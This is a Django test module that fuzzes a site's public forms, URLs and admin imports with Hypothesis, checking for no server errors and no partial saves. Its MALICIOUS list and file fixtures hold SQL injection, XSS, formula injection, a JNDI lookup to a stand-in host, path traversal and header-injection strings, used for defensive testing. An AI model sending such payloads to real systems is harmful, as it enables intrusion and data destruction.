"""Random and malicious input to every public form and import (issue 15): never a 5xx, and
nothing half-saved — a refused post changes no row, an accepted one saves everything it said.

Runs on SQLite and PostgreSQL (where NUL in text used to raise DataError). Each example runs
in a savepoint rolled back afterwards, so every example starts from the same rows."""

import contextlib
import csv
import io
import re
from urllib.parse import quote

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError
from survey.models import Answer

from cms.models import CallForExperiencesPage, ExperienceSubmission
from experts import assistance
from experts.links import proposal_token
from experts.models import (
    AssistanceRequest,
    AssistanceRequestPage,
    Expert,
    ExpertDirectoryPage,
    Proposal,
)
from surveys import answering
from surveys.forms import SelfEnrolmentForm
from surveys.models import CohortPhase, Participant, Submission

from ..surveys.conftest import cohort, instrument, participant  # noqa: F401 (fixtures)
from ..surveys.test_paper import filled
from ..test_translation_workflow import english_page, french_translation, locales  # noqa: F401

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=40,
    deadline=None,
    database=None,  # no .hypothesis folder in the checkout
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

MALICIOUS = [
    "\x00",
    "a\x00b",
    "\x01=3+3",
    "\t=1+1",
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "'; DROP TABLE surveys_participant; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7|add:7 }}{% debug %}",
    "${jndi:ldap://x/a}",
    "../../../etc/passwd",
    "\u202egnp.exe",
    "\ufeff\u200b",
    "Z\u0338\u0322a\u0335l\u0337g\u0336o",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀 عربى 中文",
    "\r\n\r\nSet-Cookie: x=1",
    "%00%s%n",
    "x" * 201,
    "a" * 64 + "@" + "b" * 250 + ".org",
    "z" * 5001,
    "w" * 70_000,
]
_printable = st.characters(blacklist_categories=("Cs",))  # lone surrogates cannot be sent
_control = st.characters(max_codepoint=0x1F) | st.just("\x7f")
nasty_text = st.one_of(
    st.sampled_from(MALICIOUS),
    st.text(_printable, max_size=300),
    st.text(_control | st.sampled_from("ab=+-@<>'\"%&;,\\"), max_size=40),
    st.tuples(st.text(_printable, max_size=20), _control, st.text(_printable, max_size=20)).map(
        "".join
    ),
)
CONTENT_TYPES = [
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=nonsense",
    'application/x-www-form-urlencoded; charset="utf-8',
    "multipart/form-data",
    "multipart/form-data; boundary=xyz",
    "multipart/form-data; boundary=xyz; charset=utf-32",
    "text/plain; charset=utf-8",
    "application/json",
]
raw_bodies = st.one_of(
    st.binary(max_size=400),
    nasty_text.map(lambda text: text.encode()),
    st.tuples(nasty_text, nasty_text).map(lambda kv: f"{quote(kv[0])}={quote(kv[1])}".encode()),
    st.just(b'--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\na\x00b\r\n--xyz--'),
)
FILES = [
    ("a.pdf", b"%PDF-1.4 x"),
    ("a.pdf", b"<!DOCTYPE html><script>alert(1)</script>"),
    ("a.docx", b"PK\x03\x04 not a zip"),
    ("a.txt", b"plain lessons"),
    ("a.exe", b"MZ"),
    ("noextension", b"%PDF-1.4"),
    ("a\x00.pdf", b"%PDF-1.4"),
]
uploads = st.one_of(
    st.sampled_from(FILES),
    st.tuples(
        st.sampled_from(["a.pdf", "a.doc", "a.odt", "a.rtf", "a.txt"]), st.binary(max_size=200)
    ),
)


@contextlib.contextmanager
def isolated():
    """One example: fresh rate limits, and its rows rolled back after it."""
    cache.clear()
    with transaction.atomic():
        yield
        transaction.set_rollback(True)
    cache.clear()


def quiet_client(user=None) -> Client:
    """A 500 comes back as a status the test can see, not as the view's exception."""
    client = Client(raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    return client


def no_server_error(response) -> None:
    assert response.status_code < 500, (response.status_code, response.content[:300])


def no_control_characters(*values: str) -> None:
    assert not any(CONTROL.search(value or "") for value in values), values


# --- Self-enrolment ---

ENROLMENT = {
    "consent": "on",
    "country": "MA",
    "office_type": "national_ip_office",
    "stakeholder_group": "ip-offices",
    "sex": "female",
    "language": "fr",
    "name": "Amal",
    "function": "Examiner",
    "email": "",
}


def enrol_url(cohort) -> str:  # noqa: F811
    return reverse("surveys:enrol", kwargs={"key": cohort.enrolment_key})


@FUZZ
@given(field=st.sampled_from([*ENROLMENT, "website"]), value=nasty_text)
def test_self_enrolment_fields(cohort, field, value):  # noqa: F811
    data = {**ENROLMENT, field: value}
    with isolated():
        before = Participant.objects.filter(cohort=cohort).count()
        response = quiet_client().post(enrol_url(cohort), data)
        no_server_error(response)
        after = Participant.objects.filter(cohort=cohort)
        if response.status_code == 303 and after.count() == before + 1:
            form = SelfEnrolmentForm(data)
            assert form.is_valid() and not form.is_spam
            new = after.latest("pk")
            for name in ("name", "function", "email", "country", "sex", "language"):
                assert getattr(new, name) == form.cleaned_data[name], name
            no_control_characters(new.name, new.function, new.email)
        else:
            assert after.count() == before


@FUZZ
@given(body=raw_bodies, content_type=st.sampled_from(CONTENT_TYPES))
def test_self_enrolment_raw_bodies(cohort, body, content_type):  # noqa: F811
    with isolated():
        response = quiet_client().generic(
            "POST", enrol_url(cohort), body, content_type=content_type
        )
        no_server_error(response)
        assert not Participant.objects.filter(cohort=cohort).exists()  # never a valid form


# --- Paths and query strings ---


@FUZZ
@given(segment=nasty_text, template=st.integers(0, 6))
def test_paths_and_query_strings(participant, segment, template):  # noqa: F811
    s, token = quote(segment, safe=""), participant.token
    url = [
        f"/en/survey/{s}/",
        f"/en/survey/enrol/{s}/",
        f"/en/survey/{token}/{s}/",
        f"/en/survey/{token}/pre/{s}/",
        f"/en/search/?q={s}&kind={s}",
        f"/{s}/",
        f"/en/survey/{token}/?enrolled={s}",
    ][template]
    with isolated():
        response = quiet_client().get(url)
        no_server_error(response)
        if CONTROL.search(segment) or "\t" in segment or "\n" in segment or "\r" in segment:
            assert response.status_code == 400


# --- The assessment screens ---

RATINGS = st.sampled_from(["1", "2", "3", "4", "5", "6", "0", "", " 3 ", "3\x00"])


def stored(participant) -> dict[str, str]:  # noqa: F811
    submission = Submission.objects.filter(participant=participant, phase="pre").first()
    if submission is None:
        return {}
    instrument = CohortPhase.objects.get(cohort=participant.cohort, phase="pre").instrument  # noqa: F811
    return answering.stored_answers(submission, instrument)


@FUZZ
@given(
    number=st.sampled_from([1, 2]),
    values=st.dictionaries(st.sampled_from(["r1", "r2", "c1", "c2"]), nasty_text | RATINGS),
    action=st.sampled_from(["next", "back", "leave", "", "\x00", "review"]),
    saved_first=st.booleans(),
)
def test_assessment_screens(participant, number, values, action, saved_first):  # noqa: F811
    client = quiet_client()
    url = reverse(
        "surveys:screen", kwargs={"token": participant.token, "phase": "pre", "number": number}
    )
    phase = CohortPhase.objects.get(cohort=participant.cohort, phase="pre")
    items = answering.screens(answering.instrument_in(phase.instrument, "en"))[number - 1].items
    with isolated():
        if saved_first:
            client.post(url, {"r1": "2", "r2": "2", "c1": "2", "c2": "Earlier answer"})
        before = stored(participant)
        response = client.post(url, {**values, "action": action})
        no_server_error(response)
        after = stored(participant)
        for item in items:
            try:
                expected = answering.clean_answer(item, values.get(item.code, ""), phase.instrument)
            except ValidationError:
                expected = before.get(item.code, "")  # a refused answer keeps the saved one
            assert after.get(item.code, "") == expected, item.code
        no_control_characters(*after.values())
        for page in ("home", "start", "review", "done"):
            kwargs = {"token": participant.token} | ({} if page == "home" else {"phase": "pre"})
            no_server_error(client.get(reverse(f"surveys:{page}", kwargs=kwargs)))


@FUZZ
@given(body=raw_bodies, content_type=st.sampled_from(CONTENT_TYPES), page=st.integers(0, 2))
def test_assessment_raw_bodies(participant, body, content_type, page):  # noqa: F811
    kwargs = {"token": participant.token, "phase": "pre"}
    url = [
        reverse("surveys:screen", kwargs={**kwargs, "number": 2}),
        reverse("surveys:review", kwargs=kwargs),
        reverse("surveys:start", kwargs=kwargs),
    ][page]
    with isolated():
        answers = Answer.objects.count()
        response = quiet_client().generic("POST", url, body, content_type=content_type)
        no_server_error(response)
        no_control_characters(*stored(participant).values())
        assert (
            Submission.objects.filter(submitted_at__isnull=False, participant=participant).count()
            == 0
        )
        assert Answer.objects.count() >= answers


# --- Call for experiences and nominations ---

EXPERIENCE = {
    "office": "Office of Industrial Property",
    "country": "Atlantis",
    "contact_name": "A. Registrar",
    "contact_email": "registrar@example.org",
    "crisis": "Floods, March 2024",
    "impact": "Closed for six weeks.",
    "response": "Online filing only.",
    "lessons": "Keep copies off site.",
    "consent_to_publish": "on",
}


@FUZZ
@given(
    field=st.sampled_from([*EXPERIENCE, "website"]), value=nasty_text, upload=st.none() | uploads
)
def test_call_for_experiences(field, value, upload):
    page = CallForExperiencesPage.objects.get(locale__language_code="en")
    data = {**EXPERIENCE, field: value}
    if upload:
        data["attachment"] = SimpleUploadedFile(*upload)
    with isolated():
        before = ExperienceSubmission.objects.count()
        response = quiet_client().post(page.url, data)
        no_server_error(response)
        if ExperienceSubmission.objects.count() == before + 1:
            assert response.status_code == 302
            saved = ExperienceSubmission.objects.latest("pk")
            for name in EXPERIENCE:
                if name != "consent_to_publish":
                    assert getattr(saved, name) == data[name].strip(), name
                    no_control_characters(getattr(saved, name))
            assert bool(saved.attachment) == bool(upload)
        else:
            assert ExperienceSubmission.objects.count() == before


NOMINATION = {
    "nominated_by": "office",
    "name": "Awa Ndiaye",
    "email": "awa.ndiaye@example.org",
    "organisation": "Office of Industrial Property",
    "country": "SN",
    "expertise": "ip-law",
    "languages": "fr",
    "biography": "Led the move to online filing.",
    "consent": "on",
}


@FUZZ
@given(
    field=st.sampled_from([*NOMINATION, "website"]), value=nasty_text, upload=st.none() | uploads
)
def test_nominations(field, value, upload):
    page = ExpertDirectoryPage.objects.get(locale__language_code="en")
    data = {**NOMINATION, field: value}
    if upload:
        data["cv"] = SimpleUploadedFile(*upload)
    with isolated():
        before = Expert.objects.count()
        response = quiet_client().post(page.url, data)
        no_server_error(response)
        if Expert.objects.count() == before + 1:
            assert response.status_code == 302
            saved = Expert.objects.latest("pk")
            for name in ("name", "email", "organisation", "biography"):
                assert getattr(saved, name) == data[name].strip(), name
                no_control_characters(getattr(saved, name))
            assert bool(saved.cv) == bool(upload)
        else:
            assert Expert.objects.count() == before


REQUEST = {
    "office": "National IP Office",
    "country": "JO",
    "contact_name": "Salma Haddad",
    "contact_email": "salma@example.org",
    "crisis_kind": "cyber",
    "description": "The filing system is down.",
    "services_affected": "filing",
    "expertise_needed": "online-services",
    "languages": "ar",
    "urgency": "week",
    "consent": "on",
}


@FUZZ
@given(field=st.sampled_from([*REQUEST, "website"]), value=nasty_text)
def test_assistance_requests(field, value):
    page = AssistanceRequestPage.objects.get(locale__language_code="ar")
    data = {**REQUEST, field: value}
    with isolated():
        before = AssistanceRequest.objects.count()
        response = quiet_client().post(page.url, data)
        no_server_error(response)
        if AssistanceRequest.objects.count() == before + 1:
            assert response.status_code == 302
            saved = AssistanceRequest.objects.latest("pk")
            for name in ("office", "contact_name", "contact_email", "description"):
                assert getattr(saved, name) == data[name].strip(), name
                no_control_characters(getattr(saved, name))
            assert saved.language == "ar" and saved.events.count() == 1
        else:
            assert AssistanceRequest.objects.count() == before


@pytest.fixture
def pending_link(db) -> str:
    """The path of an expert's link to a proposal still waiting for an answer."""
    expert = Expert.objects.create(
        name="Fuzz Expert",
        email="fuzz@example.org",
        country="MA",
        status="eligible",
        assistance_consent=True,
    )
    data = {**REQUEST, "services_affected": ["filing"], "expertise_needed": ["ip-data"]}
    data["languages"] = ["ar"]
    request = assistance.file_request(data, language="ar")
    (proposal,) = assistance.propose(request, [expert], user=None)
    return proposal_token(proposal)


@FUZZ
@given(
    token=nasty_text, answer=nasty_text | st.sampled_from(["accept", "decline"]), note=nasty_text
)
def test_expert_answer_links(pending_link, token, answer, note):
    """Garbage tokens find nothing; garbage answers and notes on a real link are refused or
    stored whole, and never answer twice."""
    with isolated():
        garbage = quiet_client().post(f"/ar/experts/answer/{quote(token, safe='')}/", {})
        no_server_error(garbage)
        response = quiet_client().post(
            f"/ar/experts/answer/{pending_link}/", {"answer": answer, "note": note}
        )
        no_server_error(response)
        proposal = Proposal.objects.get(expert__email="fuzz@example.org")
        if response.status_code == 302:
            assert proposal.answer == ("accepted" if answer == "accept" else "declined")
            assert proposal.note == note.strip()
            no_control_characters(proposal.note)
        else:
            assert proposal.answer == "pending"


@FUZZ
@given(body=raw_bodies, content_type=st.sampled_from(CONTENT_TYPES), which=st.booleans())
def test_public_pages_raw_bodies(body, content_type, which):
    model, page_model = (
        (ExperienceSubmission, CallForExperiencesPage) if which else (Expert, ExpertDirectoryPage)
    )
    page = page_model.objects.get(locale__language_code="fr")
    with isolated():
        before = model.objects.count()
        response = quiet_client().generic("POST", page.url, body, content_type=content_type)
        no_server_error(response)
        assert model.objects.count() == before


@FUZZ
@given(q=nasty_text, kind=nasty_text | st.just(""))
def test_search(q, kind):
    with isolated():
        no_server_error(quiet_client().get("/en/search/", {"q": q, "kind": kind}))


# --- Imports in the admin ---


@FUZZ
@given(msgstr=nasty_text, raw=st.none() | st.binary(max_size=300))
def test_po_import(french_translation, superuser, msgstr, raw):  # noqa: F811
    from wagtail_localize.models import StringSegment, StringTranslation

    from cms.po import export_po

    if raw is None:
        po = export_po(french_translation)
        for entry in po:
            entry.msgstr = msgstr
        content = str(po).encode()
    else:
        content = raw
    url = reverse("wagtail_localize:upload_pofile", args=[french_translation.pk])
    strings = StringSegment.objects.filter(source=french_translation.source).values("string")
    translations = StringTranslation.objects.filter(
        translation_of__in=strings, locale=french_translation.target_locale
    )
    with isolated():
        before = sorted(translations.values_list("pk", "data"))
        response = quiet_client(superuser).post(
            url, {"file": SimpleUploadedFile("page-fr.po", content)}
        )
        no_server_error(response)
        after = sorted(translations.values_list("pk", "data"))
        if after != before:  # imported: every text of the file, not some
            assert raw is None and len(after) == strings.count()
            assert {data for _pk, data in after} == {msgstr}
            no_control_characters(msgstr)


HEADER = [
    "name",
    "email",
    "country",
    "sex",
    "office_type",
    "function",
    "stakeholder_group",
    "language",
]
GOOD_ROW = [
    "Awa Diop",
    "awa@example.org",
    "SN",
    "female",
    "national_ip_office",
    "Examiner",
    "ip-offices",
    "fr",
]


def attendee_file(rows: list[list[str]], as_xlsx: bool) -> SimpleUploadedFile:
    if as_xlsx:
        workbook = Workbook()
        for row in rows:
            try:
                workbook.active.append(row)
            except IllegalCharacterError:
                assume(False)  # openpyxl cannot write it; nobody's file holds it either
        buffer = io.BytesIO()
        workbook.save(buffer)
        return SimpleUploadedFile("attendees.xlsx", buffer.getvalue())
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return SimpleUploadedFile("attendees.csv", text.getvalue().encode())


@FUZZ
@given(
    column=st.integers(0, len(HEADER) - 1),
    value=nasty_text,
    as_xlsx=st.booleans(),
    raw=st.none() | st.binary(max_size=300),
)
def test_attendee_import(cohort, superuser, column, value, as_xlsx, raw):  # noqa: F811
    fuzzed = list(GOOD_ROW)
    fuzzed[column] = value
    fuzzed[1] = "" if column != 1 else value  # two rows may not share an address
    if raw is None:
        upload = attendee_file([HEADER, GOOD_ROW, fuzzed], as_xlsx)
    else:
        upload = SimpleUploadedFile("attendees.xlsx" if as_xlsx else "a.csv", raw)
    url = reverse("surveys_import_attendees", args=[cohort.pk])
    with isolated():
        before = Participant.objects.filter(cohort=cohort).count()
        response = quiet_client(superuser).post(url, {"file": upload})
        no_server_error(response)
        after = Participant.objects.filter(cohort=cohort)
        assert after.count() in (before, before + 2)  # everyone or no one
        for person in after:
            no_control_characters(person.name, person.email, person.function)


@FUZZ
@given(
    answers=st.dictionaries(st.sampled_from(["r1", "r2", "c1", "c2"]), nasty_text | RATINGS),
    raw=st.none() | st.binary(max_size=300),
)
def test_paper_import(participant, superuser, answers, raw):  # noqa: F811
    phase = CohortPhase.objects.get(cohort=participant.cohort, phase="pre")
    if raw is None:
        try:
            content = filled(phase, {participant.code: answers}, language="en")
        except IllegalCharacterError:
            assume(False)
    else:
        content = raw
    url = reverse("surveys_paper_answers", args=[phase.pk])
    with isolated():
        before = (Submission.objects.count(), Answer.objects.count())
        response = quiet_client(superuser).post(
            url, {"language": "en", "file": SimpleUploadedFile("answers.xlsx", content)}
        )
        no_server_error(response)
        if (Submission.objects.count(), Answer.objects.count()) != before:
            submission = Submission.objects.get(participant=participant, phase="pre")
            assert submission.submitted_at is not None  # saved whole, and submitted
            assert stored(participant)
            no_control_characters(*stored(participant).values())
